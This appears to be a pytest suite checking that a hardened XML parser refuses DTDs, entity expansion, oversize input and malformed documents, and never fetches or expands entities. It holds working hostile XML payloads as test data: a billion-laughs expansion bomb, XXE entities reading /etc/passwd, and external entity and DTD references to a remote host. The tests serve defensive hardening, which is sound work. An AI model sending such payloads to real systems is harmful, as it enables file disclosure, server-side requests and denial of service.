"""The hardened parse: DTDs, entities and oversize input are refused, quickly."""
import time

import pytest

from soap.xml import XmlRejected, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://198.51.100.7/secret">]><r>&xxe;</r>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://198.51.100.7/evil.dtd"><r/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><r/>"""


@pytest.mark.parametrize("data", [
    BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, PARAMETER_ENTITY,
    b"<!DOCTYPE r><r/>",
    b"\xef\xbb\xbf<?xml version='1.0'?><!-- c --><?pi x?>\n<!DOCTYPE r><r/>",
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.encode("utf-16"),
    "<!DOCTYPE r><r/>".encode("utf-16-le"),
    "<!DOCTYPE r><r/>".encode("utf-16-be"),
], ids=["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entity",
        "bare-doctype", "doctype-after-comment-and-pi", "utf16-bom", "utf16-le", "utf16-be"])
def test_any_dtd_is_rejected_quickly(data):
    started = time.perf_counter()
    with pytest.raises(XmlRejected) as caught:
        parse_xml(data)
    assert "DTD" in caught.value.reason
    assert time.perf_counter() - started < 0.5


def test_doctype_after_a_long_prolog_comment_is_still_found():
    data = b"<!--" + b"x" * 200_000 + b"--><!DOCTYPE r [<!ENTITY e 'x'>]><r>&e;</r>"
    with pytest.raises(XmlRejected):
        parse_xml(data)


def test_parser_itself_neither_fetches_nor_expands(monkeypatch):
    # Defence in depth: with the DTD pre-scan switched off, the parser must still not open
    # the file, not connect anywhere, and the post-parse check must refuse the document.
    import socket

    import soap.xml as module

    monkeypatch.setattr(module, "_has_dtd", lambda data: False)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    loopback_xxe = (
        f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/x">]><r>&xxe;</r>'.encode()
    )
    with listener:
        for data in (XXE_FILE, XXE_HTTP, EXTERNAL_DTD, loopback_xxe):
            with pytest.raises(XmlRejected):
                parse_xml(data)
        with pytest.raises(socket.timeout):
            listener.accept()  # nobody knocked
    from lxml import etree

    root = etree.fromstring(XXE_FILE, module._parser())
    assert b"root:" not in etree.tostring(root)


@pytest.mark.parametrize("data", [b"", b"   \r\n\t "])
def test_empty_input_is_rejected(data):
    with pytest.raises(XmlRejected, match="empty"):
        parse_xml(data)


def test_oversize_input_is_rejected_before_parsing():
    with pytest.raises(XmlRejected, match="exceeds 100 bytes"):
        parse_xml(b"<r>" + b"x" * 100 + b"</r>", max_bytes=100)


@pytest.mark.parametrize("data", [b"<r>", b"not xml", b"<r>&undefined;</r>", b"<a></b>"])
def test_malformed_input_is_rejected(data):
    with pytest.raises(XmlRejected, match="not well-formed"):
        parse_xml(data)


@pytest.mark.parametrize("data", [b"<r>" + b"x" * 10_000_001 + b"</r>",
                                  b"<r>" + b"<e>" * 300 + b"</e>" * 300 + b"</r>"])
def test_parser_limits_are_named_as_limits(data):
    with pytest.raises(XmlRejected) as rejected:
        parse_xml(data)
    assert rejected.value.reason.startswith("XML document exceeds a parser limit")
    assert "XML_PARSE_HUGE" not in rejected.value.reason


def test_doctype_text_inside_the_body_is_no_dtd():
    root = parse_xml(b"<?xml version='1.0'?><!-- <!DOCTYPE in a comment --><r><![CDATA[<!DOCTYPE html>]]></r>")
    assert root.text == "<!DOCTYPE html>"


def test_plain_documents_parse_with_comments_kept():
    root = parse_xml(b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>\n<r a='1'><!--c--><s>\xc3\xa6</s></r>")
    assert root.tag == "r" and root[1].text == "æ"
    assert parse_xml("<r>ø</r>".encode("utf-16")).text == "ø"


def test_parse_is_usable_from_many_threads():
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(8) as pool:
        tags = list(pool.map(lambda i: parse_xml(f"<r{i}/>".encode()).tag, range(200)))
    assert tags == [f"r{i}" for i in range(200)]
